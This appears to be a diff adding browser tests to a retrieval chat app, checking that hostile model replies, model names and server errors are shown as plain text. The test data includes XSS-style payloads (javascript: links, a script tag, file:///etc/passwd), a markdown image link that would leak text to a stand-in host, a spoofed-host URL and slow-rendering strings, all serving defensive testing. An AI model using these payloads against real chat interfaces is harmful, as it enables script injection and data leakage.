@@ -11,9 +11,11 @@ import pytest
 
 from ragstore.kit.decoding import NDJSON
 from tests.page.bases import Bases
+from tests.page.chats import MODEL, Chats, ask, models, opened
 from tests.page.conftest import OpenTab
 from tests.page.tab import Tab
 from tests.support.changing_site import ChangingSite
+from tests.support.fake_upstream import responding, stream_of
 from tests.support.keyed_services import eventually
 from tests.support.servers import Served
 from tests.support.sources import LONG
@@ -237,3 +239,82 @@ def test_hostile_names_of_files_that_are_not_accepted_are_shown_as_text(open_tab
     tab.page.locator("input[type=file]").first.set_input_files(files)
     tab.page.get_by_role("alert").get_by_text("reversed U+202Egnp.exe").wait_for()
     assert harmless(tab)
+
+
+def replied(open_tab: OpenTab, chats: Chats, *texts: str) -> Tab:
+    """A tab with a reply."""
+    chats.reply(stream_of(*texts))
+    tab = opened(open_tab, chats)
+    ask(tab)
+    tab.page.get_by_role("article").locator("summary").wait_for()
+    return tab
+
+
+def test_hostile_replies_are_shown_as_text(open_tab: OpenTab, chats: Chats) -> None:
+    tab = replied(open_tab, chats, *(f"text {text}\n\n" for text in STRINGS))
+    shown = tab.page.locator(".reply").inner_text()
+    # The marks of Markdown are not drawn, and the host is drawn after an address.
+    plain = [text for text in STRINGS if text.isprintable() and text.isascii() and not set("*_`\\") & set(text)]
+    plain = [text for text in plain if "http" not in text]
+    assert len(plain) > 15
+    assert [text for text in plain if f"text {text}" not in shown] == []
+    assert "window.hacked" in shown
+    assert not {"\u202e", "\u2028", "\u0000"} & set(tab.text())
+    assert harmless(tab)
+
+
+def test_a_reply_links_to_the_web_only_and_names_the_host(open_tab: OpenTab, chats: Chats) -> None:
+    addresses = ["javascript:window.hacked=1", "data:text/html,x", "//tea.example/", "/v1/models", "file:///etc/passwd"]
+    refused = [f"[a link]({address})" for address in (*addresses, "https://good.example@evil.example/")]
+    image = "![a picture](https://leak.example/?text=secret)"
+    tab = replied(open_tab, chats, "\n\n".join([*refused, image, "[Click **here**](HTTPS://xn--80ak6aa92e.com/a?b#c)"]))
+    links = tab.page.locator(".reply a")
+    assert [links.nth(number).get_attribute("href") for number in range(links.count())] == [
+        "https://leak.example/?text=secret",
+        "https://xn--80ak6aa92e.com/a?b#c",
+    ]
+    assert {links.nth(number).get_attribute("rel") for number in range(2)} == {"noopener noreferrer"}
+    shown = tab.page.locator(".reply").inner_text()
+    assert "(xn--80ak6aa92e.com)" in shown
+    assert "(leak.example)" in shown
+    assert [text for text in refused if text not in shown] == []
+    assert harmless(tab)
+
+
+@pytest.mark.parametrize("text", ["x" * 1_000_000, "*_[`" * 12_000, "**a" * 16_000, "[" * 49_000, "\n- " * 12_000])
+def test_a_reply_that_is_made_to_be_slow_is_shown(open_tab: OpenTab, chats: Chats, text: str) -> None:
+    tab = replied(open_tab, chats, text)
+    tab.page.get_by_label("Question", exact=True).fill("The page responds.")
+
+    assert not tab.overflows()
+    assert harmless(tab)
+
+
+def test_hostile_models_bases_and_passages_are_shown_as_text(
+    open_tab: OpenTab, chats: Chats, bases: Bases, hostile_base: str
+) -> None:
+    chats.upstream.on("models", responding(models(*STRINGS)))
+    tab = open_tab(chats.url, "#/ask")
+    tab.page.locator("select:enabled").wait_for()
+    assert "rag/<script>window.hacked = 1</script>" in tab.page.locator("option").all_inner_texts()
+    chats.upstream.off("models")
+    assert harmless(tab)
+    tab = open_tab(bases.url, f"#/ask?base={hostile_base}")
+    ask(tab, STRINGS[0])
+    buttons = tab.page.get_by_role("button", name="Open passage")
+    buttons.first.wait_for()
+    for number in range(buttons.count()):
+        buttons.nth(number).click()
+        tab.page.get_by_role("complementary", name="Passage").locator(".text").wait_for()
+    assert harmless(tab)
+
+
+def test_a_hostile_error_of_a_model_server_is_shown_as_text(open_tab: OpenTab, chats: Chats) -> None:
+    for text in (STRINGS[1], "reversed \u202egnp.exe"):
+        body = json.dumps({"error": {"message": text, "code": text}}).encode()
+        chats.reply(responding(body, "500 Internal Server Error"))
+        tab = opened(open_tab, chats, f"rag/{MODEL}")
+        ask(tab)
+        tab.page.get_by_role("alert").wait_for()
+        assert not {"\u202e", "\u2028", "\u0000"} & set(tab.text())
+        assert harmless(tab)
